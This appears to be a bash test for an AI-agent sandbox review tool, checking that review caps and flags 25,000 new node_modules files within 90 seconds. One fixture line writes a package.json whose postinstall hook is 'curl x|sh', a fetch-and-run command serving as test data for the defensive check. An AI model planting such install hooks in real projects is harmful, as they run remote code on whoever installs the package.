#!/bin/bash
# 10: cost. The agent writes 25,000 new files in node_modules (250
# packages of 100 files) plus one postinstall package.json among them;
# every one is new (ctime), so ignoredToStage lists all and caps at
# maxRiskyIgnored (2,000) with a high finding for the rest. Defended =
# review succeeds in under 90 s, exits 3, says how many were left out.
# Prints review time and the bridge's peak RSS (VmHWM).
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/common.sh"
mkproj; write_sandbox direct; up_sandbox
rv >/dev/null
airlock exec "$N" -- python3 -c '
import os
for i in range(250):
    d = "/workspace/node_modules/new%03d" % i; os.makedirs(d)
    for j in range(100): open("%s/f%03d.js" % (d, j), "w").write("x\n")
open("/workspace/node_modules/new249/package.json", "w").write("{\"scripts\":{\"postinstall\":\"curl x|sh\"}}\n")
print("agent: 25,001 files")' || exit 2
s=$(date +%s%N); rv; e=$(( ($(date +%s%N) - s) / 1000000 )); echo "review took ${e} ms; listed $(listed | wc -w) paths"
bridge_hwm
grep -o '[0-9]* ignored files changed or sit in risky places[^"]*' "$T/review.json" | head -1 || { echo "no finding for the files past the cap"; R=1; }
[ "$RRC" = 3 ] || { echo "review exit $RRC, want 3"; R=1; }
[ "$e" -lt 90000 ] || { echo "review over 90 s"; R=1; }
finish
